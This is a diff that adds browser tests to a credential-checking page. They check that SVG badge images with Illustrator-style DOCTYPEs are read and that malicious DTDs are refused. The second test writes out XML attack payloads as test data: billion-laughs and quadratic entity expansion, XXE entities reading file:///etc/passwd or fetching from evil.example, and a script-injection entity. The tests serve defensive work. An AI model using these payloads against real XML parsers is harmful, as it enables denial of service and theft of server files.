@@ -2658,6 +2658,120 @@ def test_a_damaged_badge_image_gets_a_clear_message_and_never_runs(page: Page, s
     assert errors == []
 
 
+def test_a_badge_exported_with_a_doctype_is_read(page: Page, sample_site: Site):
+    """An SVG badge image that begins with a document type declaration, as Adobe Illustrator
+    exports it (its DTD declaring the namespaces it uses as entities, the root element naming
+    them by reference: xmlns:x="&ns_extend;"), chosen or pasted, is read as its credential; so
+    is one whose DOCTYPE has only its public and system identifiers (never fetched: the page
+    loads nothing from elsewhere, which the guard of the browser context checks). The page
+    expands the entities itself, in attributes and text but not in CDATA, a comment or the
+    credential's JSON, and gives DOMParser no DTD at all."""
+    said = ui_strings("en")["check"]
+    badge = fx.ob3_credential(sample_site.root, CID, VERSION)
+    text = json.dumps(badge)
+    svg = (sample_site.root / "credentials" / CID / VERSION / "badge.svg").read_text("utf-8")
+    illustrator = fx.baked_svg(fx.illustrator_svg(svg), text)
+    assert len(illustrator.split("<svg", 1)[0]) > 512  # its DTD is longer than the page's sniff
+    errors = console_errors(page)
+    open_check(page, sample_site)
+    paste(page, text)
+    plain = (verdict(page), row_results(page))
+    assert plain[0] == "match", output_text(page)
+    note = page.locator(".credcat-check__baked")
+    images = {
+        "Illustrator": illustrator,
+        "identifiers only": fx.with_doctype(fx.baked_svg(svg, text), None),
+        "SYSTEM identifier only": fx.baked_svg(svg, text).replace(
+            "<svg",
+            '<!DOCTYPE svg SYSTEM "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n<svg',
+            1,
+        ),
+    }
+    for name, data in images.items():
+        choose(page, "badge.svg", "image/svg+xml", data.encode())
+        assert (verdict(page), row_results(page)) == plain, (name, output_text(page))
+        expect(note).to_have_text(str(said["baked_read"]).format(kind="SVG"))
+    paste(page, illustrator)  # the SVG's text pasted
+    assert (verdict(page), row_results(page)) == plain
+    expect(note).to_have_attribute("data-credcat-baked", "svg")
+
+    subset = '<!ENTITY a "x\'>y"> <!-- a comment --> <!ENTITY b \'B\'> <!ENTITY a "later">'
+    given = page.evaluate(
+        "text => window.credcatCheck.svgText(text)",
+        fx.with_doctype(
+            '<svg xmlns="http://www.w3.org/2000/svg" data-a="&a;"><!-- &a; --><?pi &b;?>'
+            '<desc>&a;&b;&amp;&c;</desc><![CDATA[{"t": "&a;"}]]></svg>',
+            subset,
+        ),
+    )
+    assert given == (
+        '<?xml version="1.0" encoding="utf-8"?>\n'
+        "<!-- Generator: Adobe Illustrator 27.0.0, SVG Export Plug-In . SVG Version: 6.00 -->\n"
+        "\n"  # the line the DTD was on
+        '<svg xmlns="http://www.w3.org/2000/svg" data-a="x&apos;&gt;y"><!-- &a; --><?pi &b;?>'
+        '<desc>x&apos;&gt;yB&amp;&c;</desc><![CDATA[{"t": "&a;"}]]></svg>'
+    )
+    assert errors == []
+
+
+def test_an_svg_whose_doctype_is_an_attack_is_refused(page: Page, sample_site: Site):
+    """An SVG badge image whose DTD is anything but plain text entities is refused with a clear
+    message before any XML parser sees it, and nothing is fetched: entities nested in each other
+    (billion laughs, also a quadratic blow-up of one entity referenced many times), a parameter
+    entity, an external entity (a file, an address), an entity whose value holds markup, more
+    entities than the page reads, a DTD with other declarations, a second DTD after the first.
+    Such an image was read as a text before, and got "neither valid JSON"."""
+    said = ui_strings("en")["check"]
+    refused = str(said["error_svg_doctype"]).format(n=64)
+    badge = fx.ob3_credential(sample_site.root, CID, VERSION)
+    svg = fx.baked_svg(
+        (sample_site.root / "credentials" / CID / VERSION / "badge.svg").read_text("utf-8"),
+        json.dumps(badge),
+    )
+    laughs = '<!ENTITY lol "lol">' + "".join(
+        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
+        for i in range(1, 10)
+    )
+    quadratic = f'<!ENTITY big "{"x" * 60_000}">'
+    cases = {
+        "billion laughs": (laughs, "&lol9;"),
+        "quadratic blow-up": (quadratic, "&big;" * 200),
+        "parameter entity": (
+            "<!ENTITY % pe \"<!ENTITY lol 'lol'>\"> %pe;",
+            "&lol;",
+        ),
+        "external file": ('<!ENTITY xxe SYSTEM "file:///etc/passwd">', "&xxe;"),
+        "external address": (
+            '<!ENTITY xxe PUBLIC "-//X//EN" "http://evil.example/entity.txt">',
+            "&xxe;",
+        ),
+        "parameter entity from an address": (
+            '<!ENTITY % dtd SYSTEM "https://evil.example/evil.dtd"> %dtd;',
+            "",
+        ),
+        "nested": ('<!ENTITY a "A"><!ENTITY b "&a;&a;">', "&b;"),
+        "markup": ('<!ENTITY m "<script>window.__xss=1</script>">', "&m;"),
+        "too many": ("".join(f'<!ENTITY e{i} "{i}">' for i in range(65)), "&e1;"),
+        "other declarations": ('<!ELEMENT svg ANY><!ATTLIST svg onload CDATA "x">', ""),
+        "unparsed": ('<!ENTITY u SYSTEM "https://evil.example/u" NDATA gif>', ""),
+    }
+    errors = console_errors(page)
+    open_check(page, sample_site)
+    output = page.locator("#credcat-check-output")
+    for name, (subset, references) in cases.items():
+        data = fx.with_doctype(svg.replace("</svg>", f"<desc>{references}</desc></svg>"), subset)
+        choose(page, "badge.svg", "image/svg+xml", data.encode())
+        assert verdict(page) == "error", (name, output_text(page))
+        expect(page.locator(".credcat-check__message")).to_have_text(refused)
+        expect(output).not_to_contain_text(str(said["error_json"]))
+    # a second DTD after the first (the one DOMParser would see once the first is taken out)
+    second = f"<!DOCTYPE svg [{laughs}]>\n" + svg.replace("</svg>", "<desc>&lol9;</desc></svg>")
+    paste(page, fx.with_doctype(second, None))
+    expect(page.locator(".credcat-check__message")).to_have_text(refused)
+    assert page.evaluate("() => window.__xss") is None
+    assert errors == []
+
+
 def test_a_graph_or_a_presentation_holding_a_credential_is_read(
     page: Page, sample_site: Site, issued: dict[str, Any]
 ):
